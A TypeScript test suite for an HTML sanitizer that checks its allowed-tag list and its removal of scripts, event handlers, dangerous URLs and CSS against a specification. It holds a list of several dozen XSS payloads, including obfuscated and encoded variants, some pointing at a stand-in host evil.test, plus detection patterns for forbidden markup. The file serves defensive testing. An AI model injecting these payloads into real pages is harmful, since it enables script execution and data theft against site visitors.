import { assertEquals, ok } from "../../_helpers/assert.ts";
import {
  ALLOWED_TAGS,
  safeUrl,
  sanitizeCss,
  sanitizeHtml,
} from "../../../mod/protection/html_sanitize.ts";

/** Specification rule 4.5.1, verbatim. */
const SPEC_TAGS = [
  "html",
  "head",
  "body",
  "title",
  "main",
  "section",
  "header",
  "footer",
  "div",
  "span",
  "h1",
  "h2",
  "h3",
  "h4",
  "h5",
  "h6",
  "p",
  "strong",
  "em",
  "b",
  "i",
  "small",
  "pre",
  "code",
  "br",
  "hr",
  "ul",
  "ol",
  "li",
  "table",
  "thead",
  "tbody",
  "tfoot",
  "tr",
  "th",
  "td",
  "a",
  "img",
  "style",
  "meta",
];

/** Every element name left in the output (text is escaped, so each `<name` is an element). */
function tagsIn(html: string): string[] {
  return [...html.replace(/^<!DOCTYPE html>/i, "").matchAll(/<([a-zA-Z][a-zA-Z0-9-]*)/g)].map((
    m,
  ) => m[1]!.toLowerCase());
}

const FORBIDDEN = [
  /<script/i,
  /<svg/i,
  /<math/i,
  /<iframe/i,
  /<object/i,
  /<embed/i,
  /<base/i,
  /<link/i,
  /<template/i,
  /<form/i,
  /<input/i,
  /<button/i,
  /<select/i,
  /<textarea/i,
  /<noscript/i,
  /<!--/,
  /\son[a-z]+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /expression\(/i,
  /behavior:/i,
  /-moz-binding/i,
  /@import/i,
  /srcdoc/i,
  /http-equiv/i,
  /formaction|\saction=|\smethod=/i,
  /data:text/i,
];

function assertClean(input: string): string {
  const { html } = sanitizeHtml(input);
  for (const re of FORBIDDEN) ok(!re.test(html), `${re} survived in ${html}\nfrom ${input}`);
  for (const tag of tagsIn(html)) {
    ok(ALLOWED_TAGS.has(tag), `<${tag}> is not in rule 4.5.1 but survived in ${html}`);
  }
  return html;
}

const VECTORS = [
  "<script>alert(1)</script>",
  "<ScRiPt SRC=//evil.test/x.js></sCrIpT>",
  "<scr<script>ipt>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<IMG SRC=x OnErRoR=alert(1)>",
  "<img src=x onerror\n=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href=" &#14;javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  "<svg><script>alert(1)</script></svg>",
  "<svg onload=alert(1)><circle/></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<div srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">x</div>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Set-Cookie" content="a=b">',
  '<META HTTP-EQUIV="refresh" CONTENT="0">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  "<style>@import 'http://evil.test/x.css';</style>",
  "<style>@IMPORT url(//evil.test/x.css);</style>",
  "<style>body{background:url(javascript:alert(1))}</style>",
  "<style>body{width:expression(alert(1))}</style>",
  "<style>body{width:expr\\65 ssion(alert(1))}</style>",
  "<style>body{width:expr/**/ession(alert(1))}</style>",
  "<style>body{behavior:url(x.htc)}</style>",
  "<style>body{-moz-binding:url(x.xml#xss)}</style>",
  "<style>body{background:url(java\\73 cript:alert(1))}</style>",
  "<style>a{color:red}\\3c /style\\3e \\3c script\\3e alert(1)\\3c /script\\3e</style>",
  "<style>@imp@importort url(x)</style>",
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="behavior:url(x)">x</p>',
  '<form action="https://evil.test"><button formaction="javascript:alert(1)">go</button></form>',
  '<form method="post"><input type="image" src="javascript:alert(1)"></form>',
  "<!--<script>alert(1)</script>-->",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<p>a<!-- comment -->b</p>",
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<a href="http://ok.test" onclick="alert(1)">ok</a>',
  "<body onload=alert(1)>x</body>",
  '<html onmouseover="alert(1)"><body>x</body></html>',
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>",
  "<textarea></textarea><script>alert(1)</script>",
  "<xmp><script>alert(1)</script></xmp>",
  "<p><b><i>unclosed <script>alert(1)",
  "<<script>script>alert(1)//<</script>/script>",
  "<img src=`javascript:alert(1)`>",
  "<img/src=x/onerror=alert(1)>",
  '<a href="\\x01javascript:alert(1)">x</a>',
];

for (const [i, vector] of VECTORS.entries()) {
  Deno.test(`sanitizeHtml() neutralises XSS vector ${i + 1}: ${vector.slice(0, 60)}`, () => {
    assertClean(vector);
  });
}

Deno.test("sanitizeHtml() keeps a normal block page intact", () => {
  const page = `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Blocked</title>
<style>body{font-family:sans-serif;color:#333}</style></head><body><main class="box">
<h1>Request blocked</h1><p>Reference: <code>{{trace_id}}</code></p>
<a href="https://example.com/help">Help</a> <a href="mailto:sec@example.com">Mail</a>
<img alt="logo" src="data:image/png;base64,iVBORw0KGgo="></main></body></html>`;
  const { html, removed } = sanitizeHtml(page);
  assertEquals(removed, []);
  for (
    const part of [
      '<meta charset="utf-8">',
      "<title>Blocked</title>",
      "body{font-family:sans-serif;color:#333}",
      '<main class="box">',
      "{{trace_id}}",
      'href="https://example.com/help"',
      'href="mailto:sec@example.com"',
      'src="data:image/png;base64,iVBORw0KGgo="',
    ]
  ) ok(html.includes(part), `${part} missing in ${html}`);
});

Deno.test("sanitizeHtml() reports what it removed and unwraps unknown tags", () => {
  const { html, removed } = sanitizeHtml(
    '<blink>hi <b onclick="x">there</b></blink><script>x</script>',
  );
  ok(html.includes("hi <b>there</b>"), html);
  assertEquals(removed, ["b@onclick", "<blink> (unwrapped)", "script"]);
});

Deno.test("rule 4.5.1: the allow list is exactly the specification's tag list", () => {
  assertEquals([...ALLOWED_TAGS].sort(), [...SPEC_TAGS].sort());
});

Deno.test("rule 4.5.1: every allowed tag survives with its text", () => {
  const body = SPEC_TAGS.filter((t) =>
    !["html", "head", "body", "title", "style", "meta"].includes(t)
  )
    .map((t) =>
      ["br", "hr", "img"].includes(t)
        ? `<${t}>`
        : t.startsWith("t") || t === "table"
        ? ""
        : `<${t}>in-${t}</${t}>`
    ).join("");
  const page =
    `<html><head><meta charset="utf-8"><title>T</title><style>p{color:red}</style></head><body>${body}` +
    `<table><thead><tr><th>h</th></tr></thead><tbody><tr><td>d</td></tr></tbody><tfoot><tr><td>f</td></tr></tfoot></table></body></html>`;
  const { html, removed } = sanitizeHtml(page);
  assertEquals(removed, []);
  assertEquals(new Set(tagsIn(html)), new Set(SPEC_TAGS));
});

Deno.test("rule 4.5.1: formatting tags outside the list are unwrapped and keep their text", () => {
  for (
    const tag of [
      "article",
      "nav",
      "aside",
      "blockquote",
      "u",
      "s",
      "sub",
      "sup",
      "mark",
      "kbd",
      "q",
      "abbr",
      "dl",
      "dt",
      "dd",
      "figure",
      "figcaption",
      "center",
      "font",
      "label",
      "details",
      "summary",
      "marquee",
      "blink",
      "fieldset",
      "legend",
      "address",
      "caption",
    ]
  ) {
    const { html, removed } = sanitizeHtml(`<p>before <${tag}>kept-${tag}</${tag}> after</p>`);
    ok(html.includes(`kept-${tag}`), `text of <${tag}> lost: ${html}`);
    ok(!tagsIn(html).includes(tag), `<${tag}> survived: ${html}`);
    ok(removed.includes(`<${tag}> (unwrapped)`), `${tag}: ${removed}`);
  }
});

Deno.test("rule 4.5.1: containers of active content go with their content", () => {
  for (
    const [tag, inner] of [
      ["form", '<p>Password</p><input name="pw"><button>Sign in</button>'],
      ["button", "Click me"],
      ["select", "<option>one</option>"],
      ["textarea", "typed"],
      ["iframe", "fallback"],
      ["object", "<param name=a value=b>fallback"],
      ["svg", "<text>drawn</text>"],
      ["math", "<mi>x</mi>"],
      ["template", "<p>later</p>"],
      ["noscript", "<p>no js</p>"],
      ["applet", "old"],
      ["video", "<p>no video</p>"],
      ["canvas", "painted"],
      ["dialog", "<p>modal</p>"],
    ] as const
  ) {
    const { html, removed } = sanitizeHtml(`<div>keep<${tag}>${inner}SECRET</${tag}></div>`);
    ok(html.includes("<div>keep</div>"), `${tag}: ${html}`);
    ok(!html.includes("SECRET"), `content of <${tag}> survived: ${html}`);
    ok(removed.includes(tag), `${tag}: ${removed}`);
  }
  for (const tag of ["input", "embed", "link", "base", "frameset"]) {
    const { html } = sanitizeHtml(
      `<html><head><${tag} href="https://a.test"></head><body><div>x</div></body></html>`,
    );
    ok(!tagsIn(html).includes(tag), `<${tag}> survived: ${html}`);
  }
});

Deno.test("rule 4.5.2: script elements and HTML comments are removed", () => {
  const { html, removed } = sanitizeHtml(
    "<p>a<!-- secret note -->b</p><script>alert(1)</script><SCRIPT src=https://a.test/x.js></SCRIPT>",
  );
  assertEquals(html.includes("<script"), false);
  assertEquals(html.includes("secret note"), false);
  ok(html.includes("<p>ab</p>"), html);
  assertEquals(removed, ["comment", "script", "script"]);
});

Deno.test("rule 4.5.3: attributes whose name starts with on are removed", () => {
  const { html } = sanitizeHtml(
    '<div onclick="a()" ONMOUSEOVER="b()" onfocusin=c() class="box" one="x">t</div>',
  );
  ok(html.includes('<div class="box">t</div>'), html);
});

Deno.test("rule 4.5.4: formaction, action and method are removed", () => {
  const { html } = sanitizeHtml(
    '<a href="https://a.test" action="https://evil.test" method="post" formaction="https://evil.test">x</a>',
  );
  ok(html.includes('<a href="https://a.test">x</a>'), html);
});

Deno.test("rule 4.5.5: meta keeps only charset; http-equiv refresh and headers are rejected", () => {
  const { html, removed } = sanitizeHtml(
    '<html><head><meta charset="utf-8" name="viewport" content="x"><meta http-equiv="refresh" content="0;url=https://evil.test"><meta http-equiv="Content-Security-Policy" content="x"></head><body>b</body></html>',
  );
  ok(html.includes('<meta charset="utf-8">'), html);
  ok(!/http-equiv|refresh|viewport/i.test(html), html);
  assertEquals(removed.filter((r) => r === "meta[http-equiv]").length, 2);
});

Deno.test("rule 4.5.6: @import and script-capable CSS are removed from style elements and attributes", () => {
  const { html } = sanitizeHtml(
    `<html><head><style>@import url(https://evil.test/x.css); p{color:red;background:url(javascript:x);width:expression(1);behavior:url(x);-moz-binding:url(y);b:url(vbscript:z)}</style></head><body><p style="color:blue;background:url(javascript:x);width:expression(1)">t</p></body></html>`,
  );
  for (
    const bad of ["@import", "javascript:", "vbscript:", "expression(", "behavior:", "-moz-binding"]
  ) {
    assertEquals(html.toLowerCase().includes(bad), false, `${bad} in ${html}`);
  }
  ok(html.includes("p{color:red;"), html);
  ok(html.includes('style="color:blue;'), html);
});

Deno.test("rule 4.5.7: href and src accept only http, https, mailto and tel", () => {
  const { html } = sanitizeHtml(
    '<a href="https://a.test/">1</a><a href="http://a.test/">2</a><a href="mailto:x@a.test">3</a><a href="tel:+1">4</a><a href="javascript:x">5</a><a href="ftp://a.test">6</a><a href="/rel">7</a><img src="https://a.test/i.png"><img src="file:///etc/passwd">',
  );
  for (
    const kept of [
      "https://a.test/",
      "http://a.test/",
      "mailto:x@a.test",
      "tel:+1",
      "https://a.test/i.png",
    ]
  ) {
    ok(html.includes(`"${kept}"`), `${kept} lost: ${html}`);
  }
  for (const dropped of ["javascript:", "ftp:", "/rel", "file:"]) {
    assertEquals(html.includes(dropped), false, `${dropped} kept: ${html}`);
  }
});

Deno.test("rule 4.5.8: img also accepts a base64 image data URI; any other data URI is discarded", () => {
  const { html } = sanitizeHtml(
    '<img src="data:image/png;base64,iVBORw0KGgo="><img src="data:image/svg+xml,<svg/onload=x>"><img src="data:text/html;base64,PHNjcmlwdD4="><a href="data:image/png;base64,iVBORw0KGgo=">a</a>',
  );
  ok(html.includes('<img src="data:image/png;base64,iVBORw0KGgo=">'), html);
  assertEquals((html.match(/data:/g) ?? []).length, 1, html);
});

Deno.test("sanitizeHtml() strips meta attributes other than charset", () => {
  const { html } = sanitizeHtml(
    '<html><head><meta charset="utf-8" name="x" content="y"></head></html>',
  );
  ok(html.includes('<meta charset="utf-8">'), html);
});

Deno.test("safeUrl() keeps only http, https, mailto and tel (and image data URIs for img)", () => {
  assertEquals(safeUrl("https://a.test/x", false), "https://a.test/x");
  assertEquals(safeUrl("tel:+123", false), "tel:+123");
  assertEquals(safeUrl("/relative", false), undefined);
  assertEquals(safeUrl("ftp://a.test", false), undefined);
  assertEquals(safeUrl("data:image/gif;base64,R0lGOD", false), undefined);
  assertEquals(safeUrl("data:image/gif;base64,R0lGOD", true), "data:image/gif;base64,R0lGOD");
  assertEquals(safeUrl("data:image/gif,R0lGOD", true), undefined);
});

Deno.test("sanitizeCss() cannot be tricked into splicing a forbidden token back together", () => {
  assertEquals(sanitizeCss("a{b:javajavascript:script:x}"), "a{b:x}");
  assertEquals(sanitizeCss("a{color:red}"), "a{color:red}");
});

Deno.test("sanitizeHtml() keeps quotes inside attribute values escaped", () => {
  const { html } = sanitizeHtml(`<p title='x" onmouseover="alert(1)'>a</p>`);
  ok(html.includes('<p title="x&quot; onmouseover=&quot;alert(1)">a</p>'), html);
});
